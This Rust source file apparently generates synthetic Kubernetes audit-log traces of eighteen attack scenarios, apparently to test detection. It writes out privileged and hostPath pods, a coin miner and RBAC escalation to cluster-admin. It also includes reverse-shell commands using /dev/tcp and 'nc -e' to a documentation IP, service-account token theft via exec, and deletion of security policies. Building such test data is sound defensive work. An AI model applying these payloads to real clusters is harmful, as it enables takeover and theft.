//! Workloads with more power than those that their maker makes daily.

use super::{HASTE, ask, habitual, ways};
use crate::actor::Actor;
use crate::clusters::bodies::{one_container, template};
use crate::clusters::life::{Life, Worker, node_name};
use crate::world::Trace;
use serde_json::{Value, json};

ways! {
    E01 "A habitual maker of pods makes a privileged one" privileged_pod;
    E02 "A habitual maker of workloads makes one that runs as a stronger account" stronger_account;
    E03 "A PersistentVolume with a path of the node, and a pod with it" host_volume;
    E04 "All capabilities, without the word privileged" capabilities;
    E05 "A Windows process of the node" host_process;
    E06 "A pod placed on the control plane" on_the_control_plane;
    E07 "A habitual builder starts a coin miner" miner;
    E08 "A habitual patcher starts a reverse shell" reverse_shell;
    E09 "A pipeline that only patched leaves a CronJob" cron_job;
    E10 "A mirror pod from a manifest on a node" mirror_pod;
    E11 "A Secret taken by mounting it into a pod of one's own" mounted_secret;
    E12 "A habitual exec reads the pod's token" token_by_exec;
    E13 "A webhook is redirected by who patches it by trade" redirected_webhook;
    E14 "Policies, NetworkPolicies and a security agent are removed" policies_removed;
    E15 "Namespaces are deleted by the dozen" namespaces_deleted;
    E16 "A role of one's own, as strong as any, for everybody" strong_role;
    E17 "A binding that was answered 504 and is made all the same" timed_out;
    E18 "Roles of another API group than Kubernetes' own" other_rbac;
}

const MAKES_PODS: &[&str] = &[
    "POST /api/v1/namespaces/{ns}/pods#task-{n} 201",
    "GET /api/v1/namespaces/{ns}/pods/task-{n} 200",
];
const DEPLOYS: &[&str] = &[
    "GET /apis/apps/v1/namespaces/{ns}/deployments/web 200",
    "PATCH /apis/apps/v1/namespaces/{ns}/deployments/web 200",
    "POST /apis/apps/v1/namespaces/{ns}/deployments#app-{n} 201",
];
const READS: &[&str] = &[
    "GET /api/v1/namespaces/{ns}/configmaps/{app} 200",
    "GET /api/v1/namespaces/{ns}/endpoints?limit=500 200",
];
const PATCHES: &[&str] = &[
    "GET /apis/apps/v1/namespaces/{ns}/deployments/web 200",
    "PATCH /apis/apps/v1/namespaces/{ns}/deployments/web 200",
];

/// A pod by who makes pods daily.
fn pod(life: &mut Life<'_>, attack: &mut Trace, spec: Value) {
    let own = habitual(life, MAKES_PODS);
    send_pod(attack, &own, spec);
}

fn send_pod(attack: &mut Trace, own: &Worker, spec: Value) {
    let body = json!({"kind": "Pod", "metadata": {"name": "task-a1b2c3"}, "spec": spec});
    attack.send(
        &own.on(attack.now),
        &format!("POST /api/v1/namespaces/{}/pods 201", own.namespace()),
        &body,
    );
}

/// A Deployment by who makes Deployments daily.
fn deployment(life: &mut Life<'_>, attack: &mut Trace, spec: Value) {
    let own = habitual(life, DEPLOYS);
    let mut body = template(spec);
    body["metadata"] = json!({"name": "app-a1b2c3"});
    attack.send(
        &own.on(attack.now),
        &format!(
            "POST /apis/apps/v1/namespaces/{}/deployments 201",
            own.namespace()
        ),
        &body,
    );
}

fn privileged_pod(life: &mut Life<'_>, attack: &mut Trace) {
    pod(
        life,
        attack,
        json!({"hostPID": true, "hostNetwork": true, "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
        "containers": [{"name": "main", "image": "registry.example/main:1", "securityContext": {"privileged": true}}]}),
    );
}

fn stronger_account(life: &mut Life<'_>, attack: &mut Trace) {
    // The other one binds roles, so it is strong.
    let strong = habitual(
        life,
        &[
            "PATCH /apis/rbac.authorization.k8s.io/v1/clusterrolebindings/{app}-{n}#{app} 200",
            "GET /api/v1/secrets?limit=500 200",
        ],
    );
    let own = habitual(life, DEPLOYS);
    let mut spec = one_container();
    spec["serviceAccountName"] = json!(strong.name());
    let mut body = template(spec);
    body["metadata"] = json!({"name": "app-a1b2c3"});
    attack.send(
        &own.on(attack.now),
        &format!(
            "POST /apis/apps/v1/namespaces/{}/deployments 201",
            strong.namespace()
        ),
        &body,
    );
    let (node, ip) = life.place();
    let puppet = Worker {
        pod: "app-a1b2c3-0".to_owned(),
        node,
        ip,
        ..strong
    };
    attack.wait(60 * HASTE);
    for namespace in ["kube-system", own.namespace(), "default"] {
        ask(
            attack,
            &puppet.on(attack.now),
            &["GET /api/v1/namespaces/{ns}/secrets?limit=500 200"],
            &[("ns", namespace)],
        );
    }
}

fn host_volume(life: &mut Life<'_>, attack: &mut Trace) {
    let own = habitual(life, MAKES_PODS);
    let who = own.on(attack.now);
    let volume = json!({"kind": "PersistentVolume", "metadata": {"name": "disk"}, "spec": {"hostPath": {"path": "/"},
        "capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteMany"]}});
    attack.send(&who, "POST /api/v1/persistentvolumes 201", &volume);
    ask(
        attack,
        &who,
        &["POST /api/v1/namespaces/{ns}/persistentvolumeclaims#disk 201"],
        &[("ns", own.namespace())],
    );
    let mut spec = one_container();
    spec["volumes"] = json!([{"name": "disk", "persistentVolumeClaim": {"claimName": "disk"}}]);
    send_pod(attack, &own, spec);
}

fn capabilities(life: &mut Life<'_>, attack: &mut Trace) {
    deployment(
        life,
        attack,
        json!({"containers": [{"name": "main", "image": "registry.example/main:1",
        "securityContext": {"capabilities": {"add": ["ALL"]}}}]}),
    );
}

fn host_process(life: &mut Life<'_>, attack: &mut Trace) {
    let mut spec = one_container();
    spec["securityContext"] =
        json!({"windowsOptions": {"hostProcess": true, "runAsUserName": "NT AUTHORITY\\SYSTEM"}});
    deployment(life, attack, spec);
}

fn on_the_control_plane(life: &mut Life<'_>, attack: &mut Trace) {
    let mut spec = one_container();
    (spec["nodeName"], spec["tolerations"]) =
        (json!("control-plane-1"), json!([{"operator": "Exists"}]));
    deployment(life, attack, spec);
}

fn miner(life: &mut Life<'_>, attack: &mut Trace) {
    pod(
        life,
        attack,
        json!({"containers": [{"name": "main", "image": "registry.example/xmrig:6",
        "args": ["-o", "stratum+tcp://pool.example:3333", "-u", "4A0000"]}]}),
    );
}

fn reverse_shell(life: &mut Life<'_>, attack: &mut Trace) {
    let own = habitual(life, PATCHES);
    let body = template(
        json!({"containers": [{"name": "main", "image": "registry.example/main:1",
        "command": ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]}]}),
    );
    attack.send(
        &own.on(attack.now),
        &format!(
            "PATCH /apis/apps/v1/namespaces/{}/deployments/web 200",
            own.namespace()
        ),
        &body,
    );
}

fn cron_job(life: &mut Life<'_>, attack: &mut Trace) {
    let own = habitual(life, PATCHES);
    ask(
        attack,
        &own.on(attack.now),
        &["POST /apis/batch/v1/namespaces/kube-system/cronjobs#tidy 201"],
        &[],
    );
}

fn mirror_pod(life: &mut Life<'_>, attack: &mut Trace) {
    let node = life.chance.size(2);
    let kubelet = Actor::node(&node_name(node), &format!("10.60.0.{}", 11 + node));
    let container = json!({"name": "a", "image": "registry.example/a:1", "securityContext": {"privileged": true},
        "command": ["sh", "-c", "nc -e /bin/sh 203.0.113.9 4444"]});
    let body = json!({"kind": "Pod",
        "metadata": {"name": format!("agent-{}", node_name(node)), "annotations": {"kubernetes.io/config.source": "file"}},
        "spec": {"hostNetwork": true, "hostPID": true, "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
            "containers": [container]}});
    attack.send(
        &kubelet,
        "POST /api/v1/namespaces/kube-system/pods 201",
        &body,
    );
}

fn mounted_secret(life: &mut Life<'_>, attack: &mut Trace) {
    let mut spec = one_container();
    spec["volumes"] =
        json!([{"name": "loot", "secret": {"secretName": "registry-admin-credentials"}}]);
    pod(life, attack, spec);
}

fn token_by_exec(life: &mut Life<'_>, attack: &mut Trace) {
    let own = habitual(
        life,
        &[
            "POST /api/v1/namespaces/{ns}/pods#r-{n} 201",
            "POST /api/v1/namespaces/{ns}/pods/r-{n}/exec?command=sh&command=-c&command=make+test 101",
        ],
    );
    let read =
        "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken";
    ask(
        attack,
        &own.on(attack.now),
        &["POST /api/v1/namespaces/{ns}/pods/r-x/exec?{read} 101"],
        &[("ns", own.namespace()), ("read", read)],
    );
}

fn redirected_webhook(life: &mut Life<'_>, attack: &mut Trace) {
    let path = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/checks";
    let own = habitual(life, &["GET /api/v1/configmaps?watch=true 200"]);
    let patch =
        |config: Value| json!({"webhooks": [{"name": "checks.example", "clientConfig": config}]});
    for day in 0..life.days {
        life.trace.now = life.working_hours(day);
        life.trace.other(
            &own.on(life.trace.now),
            &format!("PATCH {path} 200"),
            Some(&patch(json!({"caBundle": format!("day-{day}")}))),
        );
    }
    attack.send(
        &own.on(attack.now),
        &format!("PATCH {path} 200"),
        &patch(json!({"url": "https://203.0.113.9/mutate"})),
    );
}

fn policies_removed(life: &mut Life<'_>, attack: &mut Trace) {
    let own = habitual(
        life,
        &[
            PATCHES[0],
            PATCHES[1],
            "DELETE /apis/batch/v1/namespaces/{ns}/jobs/old-{n} 200",
        ],
    );
    let names = [("ns", own.namespace())];
    ask(
        attack,
        &own.on(attack.now),
        &[
            "DELETE /apis/policy.example/v1/clusterpolicies/no-privileges 200",
            "DELETE /apis/networking.k8s.io/v1/namespaces/{ns}/networkpolicies 200",
            "DELETE /apis/apps/v1/namespaces/kube-system/daemonsets/security-agent 200",
        ],
        &names,
    );
    let labels =
        json!({"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}});
    attack.send(
        &own.on(attack.now),
        &format!("PATCH /api/v1/namespaces/{} 200", own.namespace()),
        &labels,
    );
}

fn namespaces_deleted(life: &mut Life<'_>, attack: &mut Trace) {
    let own = habitual(life, DEPLOYS);
    for _ in 0..30 {
        let namespace = life.name();
        ask(
            attack,
            &own.on(attack.now),
            &["DELETE /api/v1/namespaces/{ns} 200"],
            &[("ns", &namespace)],
        );
    }
}

fn strong_role(life: &mut Life<'_>, attack: &mut Trace) {
    let own = habitual(
        life,
        &[
            "POST /apis/rbac.authorization.k8s.io/v1/clusterroles#app-{n} 201",
            "POST /apis/rbac.authorization.k8s.io/v1/clusterrolebindings#app-{n} 201",
        ],
    );
    let role = json!({"metadata": {"name": "app-x"}, "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]});
    attack.send(
        &own.on(attack.now),
        "POST /apis/rbac.authorization.k8s.io/v1/clusterroles 201",
        &role,
    );
    let mut binding = crate::clusters::bodies::binding("app-x", "app-x", own.namespace());
    binding["subjects"] = json!([{"kind": "Group", "name": "system:unauthenticated"},
        {"kind": "Group", "name": "system:authenticated"}]);
    attack.send(
        &own.on(attack.now),
        "POST /apis/rbac.authorization.k8s.io/v1/clusterrolebindings 201",
        &binding,
    );
}

/// A binding to cluster-admin for the worker itself.
fn own_binding(own: &Worker) -> Value {
    crate::clusters::bodies::binding("cluster-admin", own.name(), own.namespace())
}

fn timed_out(life: &mut Life<'_>, attack: &mut Trace) {
    let own = habitual(life, READS);
    attack.send(
        &own.on(attack.now),
        "POST /apis/rbac.authorization.k8s.io/v1/clusterrolebindings?timeout=8ms 504",
        &own_binding(&own),
    );
    ask(
        attack,
        &own.on(attack.now),
        &["GET /apis/rbac.authorization.k8s.io/v1/clusterrolebindings/{app} 200"],
        &[("app", own.name())],
    );
}

fn other_rbac(life: &mut Life<'_>, attack: &mut Trace) {
    let own = habitual(life, READS);
    attack.send(
        &own.on(attack.now),
        "POST /apis/authorization.openshift.io/v1/clusterrolebindings 201",
        &own_binding(&own),
    );
    ask(
        attack,
        &own.on(attack.now),
        &[
            "PUT /apis/security.openshift.io/v1/securitycontextconstraints/privileged 200",
            "POST /apis/oauth.openshift.io/v1/oauthaccesstokens#x 201",
            "PUT /apis/user.openshift.io/v1/groups/cluster-admins 200",
        ],
        &[],
    );
}
